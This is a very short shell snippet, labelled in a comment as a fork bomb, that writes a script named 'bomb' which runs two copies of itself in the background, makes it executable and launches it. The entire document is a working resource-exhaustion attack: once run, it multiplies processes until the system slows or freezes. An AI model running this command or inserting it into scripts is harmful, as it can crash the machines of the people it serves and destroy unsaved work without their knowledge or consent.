# A fork bomb of a script that executes itself.
printf '#!/bin/bash\n./bomb & ./bomb & wait\n' > bomb; chmod +x bomb; ./bomb; echo ended
